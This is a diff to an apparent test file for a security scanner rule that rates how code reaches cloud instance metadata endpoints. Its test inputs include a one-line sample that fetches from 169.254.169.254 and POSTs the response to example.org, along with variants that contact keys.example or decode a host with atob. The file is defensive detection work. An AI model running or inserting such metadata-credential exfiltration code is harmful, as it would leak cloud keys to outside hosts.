@@ -90,3 +90,10 @@ test('good: a bundle with a whole client of a cloud, which signs what it asks', 
   assert.equal(worst(signs + asks.replace('169.254.170.2', '10.0.0.7') + filling), 'high', 'another one in the network');
   assert.equal(worst(`${asks}${signs}${filling}fetch("http://169.254.169.254/x").then(async (r) => fetch("https://example.org", { method: "POST", body: await r.text() }));`), 'high', 'its answer goes elsewhere');
 });
+
+test('low: where a client of a cloud, which names no other server, asks for the keys of its machine', () => {
+  const client = (more = '') => `const region = process.env.AWS_REGION || process.env.AWS_DEFAULT_REGION; exports.ask = (path) => require("http").request({ hostname: "169.254.169.254", path }); ${more}`;
+  const of = (code: string) => findingsOf(rule, { 'a.js': code }).map(({ severity }) => severity)[0];
+  assert.equal(of(client()), 'low');
+  for (const code of [client('fetch("https://keys.example")'), client('const host = atob(x);'), client().replace('AWS_REGION', 'REGION')]) assert.equal(of(code), 'medium', code);
+});
